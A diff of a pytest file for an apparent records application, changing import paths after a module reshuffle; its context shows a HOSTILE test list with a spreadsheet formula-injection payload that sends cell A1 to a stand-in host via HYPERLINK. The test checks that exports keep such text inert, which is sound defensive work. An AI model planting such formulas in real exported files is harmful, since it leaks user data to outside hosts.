@@ -7,8 +7,9 @@ import csv
 import pytest
 from openpyxl import load_workbook
 
-from movement_desk.services import audit, tabular, transfer
-from movement_desk.services.transfer import RecordFilter
+from movement_desk.services.core import audit, tabular
+from movement_desk.services.records import transfer
+from movement_desk.services.records.transfer import RecordFilter
 
 HOSTILE = [
     '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
@@ -93,7 +94,7 @@ def _snapshot(kind):
 )
 def test_exports_keep_text_as_text_and_import_back_exactly(database, actor, tmp_path, kind, rows):
     from movement_desk.db.connection import close_database
-    from movement_desk.services.bootstrap import prepare_database
+    from movement_desk.services.admin.bootstrap import prepare_database
 
     source = _write(tmp_path / "source.xlsx", rows())
     transfer.import_file(kind, source, actor)
